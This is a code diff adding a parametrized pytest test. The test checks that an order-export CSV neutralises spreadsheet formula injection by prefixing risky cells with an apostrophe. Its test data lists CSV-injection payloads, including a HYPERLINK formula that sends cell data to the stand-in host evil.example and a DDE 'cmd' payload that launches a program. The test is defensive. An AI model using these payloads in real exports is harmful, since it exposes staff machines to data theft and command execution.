@@ -760,6 +760,40 @@ def listed(client, query: str) -> list[str]:
     return [o.number for o in client.get(f"/admin/orders/order/?{query}").context["cl"].result_list]
 
 
+# A customer's name is the storefront's to write (any visitor placing an order): in the CSV a
+# spreadsheet opens, a cell that starts with = + - @ (or a tab or carriage return) would be run as
+# a formula on the staff member's machine (CSV injection). Such text cells start with ' instead.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1;"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_an_export_writes_no_text_a_spreadsheet_would_run_as_a_formula(client, settings, tmp_path, formula):
+    settings.OKADA_PRIVATE_DIR = tmp_path
+    vendor = VendorFactory(name=formula)
+    order = OrderFactory(vendor=vendor, customer=CustomerFactory(name=formula))
+    login(client, FINANCE)
+    assert (
+        client.post("/admin/orders/order/export/", {"query": f"vendor__id__exact={vendor.pk}"}).status_code
+        == 302
+    )
+    [export] = OrderExport.objects.all()
+    assert exports.export_run(export_id=str(export.pk), language="fr").status == "done"
+    download = client.get(f"/admin/orders/orderexport/{export.pk}/download/")
+    text = b"".join(download.streaming_content).decode("utf-8-sig")
+    [row] = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
+    assert row[0] == order.number
+    assert row[3] == row[4] == "'" + formula  # vendor, customer: shown as written, never run
+    assert row[5] == order.customer.phone  # a phone (+237...) is a number to a spreadsheet: as is
+    assert row[-1] == str(order.total_xaf)
+
+
 @pytest.mark.parametrize("descending", [False, True])
 def test_an_export_follows_the_lists_sort_by_a_column_then_its_tie_breakers(client, exported, descending):
     # By total, either way; equal totals as the list breaks ties: newest placed first, then by id
